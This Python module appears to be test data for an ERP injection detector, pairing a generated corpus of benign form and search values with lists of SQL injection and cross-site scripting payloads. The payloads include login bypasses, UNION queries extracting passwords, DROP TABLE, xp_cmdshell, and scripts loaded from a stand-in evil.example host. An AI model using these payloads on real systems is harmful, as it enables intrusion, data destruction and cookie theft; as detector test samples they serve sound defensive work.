"""Benign and hostile inputs for measuring the injection detector.

The benign corpus mixes hand-picked tricky strings (apostrophes in names, SQL and HTML
words used in prose, maths, code-like text) with generated form, search and query values
typical of an ERP: customers, addresses, invoice lines, notes and search terms.
"""

from __future__ import annotations

import random

TRICKY_BENIGN = [
    "O'Brien",
    "D'Angelo & Sons",
    "Select your plan from the list below",
    "Please select a delivery date",
    "drop-shipping from the warehouse",
    "Union Station, Chicago",
    "The union of sets A and B",
    "black and white",
    "Terms and conditions apply",
    "a < b and b > c",
    "x<y",
    "5 > 3",
    "Update the address on file",
    "Delete old drafts; keep the signed ones",
    "insert coin",
    "Created by Anna; updated by Ben",
    "Price: $1,299.00 (incl. VAT)",
    "SKU-00123/XL",
    "50% off -- today only",
    "Rock 'n' roll",
    "It's 10 o'clock",
    'He said "hello" -- then left',
    "email: jane.doe+invoices@example.com",
    "https://example.com/path?a=1&b=2",
    "C:\\Users\\anna\\Documents",
    "SELECT is a SQL keyword",
    "where is my order?",
    "order by date, newest first",
    "1=1 scale model",
    "room 101 or 102",
    "sleep well",
    "benchmark results 2024",
    "I <3 this product",
    "<b>bold</b> text in a note",
    "Use the on/off switch",
    "online=yes",
    "javascript developer position",
    "document.pdf",
    "window location: north facade",
    "expression of interest",
    "script for the demo video",
    "Meta description for SEO",
    "Base price",
    "Object storage",
    "Embedded systems",
    "template number 4",
    "math homework",
    "SVG logo attached",
    "data: see attachment",
    "#hashtag",
    "pi = 3.14159",
    "a == b",
    "f(x) = x^2 + 1",
    "char(10) is a newline",
    "Déjà vu — café",
    "東京都千代田区",
    "Zürich, Schweiz",
    "Ω resistance 10kΩ",
    "emoji 🎉🎉",
    "[draft] Q3 report",
    '{"customer": "ACME", "lines": 2}',
    "key=value; other=thing",
    "--verbose",
    "/* see notes */",
    "Mr. & Mrs. Smith",
    "AT&T",
    "It's John's and Mary's",
    "rock'n'roll or jazz",
    "can't or won't",
    "Let's drop by tomorrow",
    "copy & paste",
]

FIRST = [
    "Anna",
    "Ben",
    "Chloé",
    "Dmitri",
    "Eve",
    "Farah",
    "Gus",
    "Hana",
    "Ivan",
    "Jo",
    "Kenji",
    "Liam",
    "María",
    "Noor",
    "Olu",
    "Pat",
    "Quinn",
    "Rosa",
    "Sven",
    "Tariq",
    "Uma",
    "Véronique",
]
LAST = [
    "Smith",
    "O'Neil",
    "García",
    "Nguyen",
    "Müller",
    "D'Souza",
    "Kowalski",
    "Okafor",
    "Lee",
    "Johansson",
    "Rossi",
    "Dubois",
    "McAllister",
    "Van der Berg",
    "Al-Sayed",
    "Ó Briain",
]
STREETS = ["Main St", "Rue de l'Église", "Hauptstraße", "Calle Mayor", "King's Road", "5th Ave"]
PRODUCTS = [
    "widget",
    "gadget",
    "bolt M8",
    "steel beam",
    "office chair",
    "USB-C cable",
    "A4 paper (500 sheets)",
    "coffee beans 1kg",
    "safety gloves, size L",
    "toner cartridge",
]
WORDS = [
    "invoice",
    "order",
    "payment",
    "customer",
    "supplier",
    "delivery",
    "select",
    "union",
    "drop",
    "update",
    "delete",
    "insert",
    "create",
    "where",
    "from",
    "and",
    "or",
    "not",
    "script",
    "alert",
    "document",
    "window",
    "location",
    "table",
    "join",
    "group",
    "by",
    "having",
    "value",
    "null",
    "true",
    "false",
    "on",
    "off",
    "data",
    "base",
    "meta",
    "object",
    "template",
    "frame",
    "style",
    "urgent",
    "please",
    "check",
    "confirm",
    "the",
    "a",
    "of",
    "to",
    "in",
    "for",
    "with",
    "this",
    "that",
    "is",
    "are",
    "was",
    "be",
]
SEARCH = [
    "unpaid invoices",
    "orders from last week",
    "customer:acme",
    "status=open",
    "total>1000",
    "due before 2024-12-31",
    "name:O'Brien",
    "tag:urgent OR tag:late",
    '"exact phrase"',
    "-excluded",
    "price:[10 TO 100]",
]


def benign_corpus(size: int = 2000, seed: int = 7) -> list[str]:
    rng = random.Random(seed)
    out = list(TRICKY_BENIGN)
    while len(out) < size:
        pick = rng.randrange(8)
        if pick == 0:
            out.append(f"{rng.choice(FIRST)} {rng.choice(LAST)}")
        elif pick == 1:
            out.append(f"{rng.randint(1, 400)} {rng.choice(STREETS)}, {rng.randint(1000, 99999)}")
        elif pick == 2:
            out.append(
                f"{rng.randint(1, 50)} x {rng.choice(PRODUCTS)} "
                f"@ {rng.randint(1, 999)}.{rng.randint(0, 99):02d}"
            )
        elif pick == 3:
            out.append(
                " ".join(rng.choice(WORDS) for _ in range(rng.randint(3, 14))).capitalize()
                + rng.choice([".", "?", "!", ""])
            )
        elif pick == 4:
            out.append(rng.choice(SEARCH))
        elif pick == 5:
            out.append(f"INV-{rng.randint(2020, 2026)}-{rng.randint(1, 99999):05d}")
        elif pick == 6:
            name = rng.choice(FIRST).lower()
            out.append(f"{name}.{rng.choice(LAST).lower().replace(chr(39), '')}@example.org")
        else:
            words = [rng.choice(WORDS) for _ in range(rng.randint(2, 6))]
            out.append(f"{rng.choice(LAST)}'s note: {' '.join(words)}")
    return out[:size]


ATTACKS_SQL = [
    "' OR '1'='1",
    "' OR 1=1 --",
    "admin'--",
    "admin' #",
    "1 OR 1=1",
    "1' AND '1'='1",
    "' UNION SELECT username, password FROM users--",
    "1 UNION ALL SELECT NULL,NULL,NULL",
    "'; DROP TABLE users; --",
    "1; DELETE FROM invoices",
    "1' AND SLEEP(5)--",
    "1); WAITFOR DELAY '0:0:5'--",
    "' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--",
    "1 AND pg_sleep(5)",
    "'; EXEC xp_cmdshell('dir')--",
    "' OR ''='",
    '" OR ""="',
    "') OR ('a'='a",
    "1'/**/UNION/**/SELECT/**/1,2--",
    "%27%20OR%20%271%27%3D%271",
    "%2527%2520OR%25201%253D1--",
    "1 and benchmark(1000000,md5(1))",
    "' UNION SELECT name FROM sqlite_master--",
    "x' AND (SELECT 1 FROM pg_catalog.pg_user)='1",
    "' || '1'='1",
    "CHAR(65)+CHAR(66)",
    "' INTO OUTFILE '/tmp/x'--",
    "1' ORDER BY 1--",
]

ATTACKS_XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<body onload=alert('x')>",
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:void(0)">x</a>',
    '"><script>alert(1)</script>',
    "'><img src=1 onerror=prompt(1)>",
    '<div style="width: expression(alert(1))">',
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    '<object data="data:text/html;base64,PHNjcmlwdD4=">',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<embed src=evil.swf>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<math><mtext><script>alert(1)</script>",
    '<base href="//evil.example/">',
    '<a href="vbscript:msgbox(1)">',
    "document.write('<img src=//evil>')",
    "<script>window.location='//evil'</script>",
]
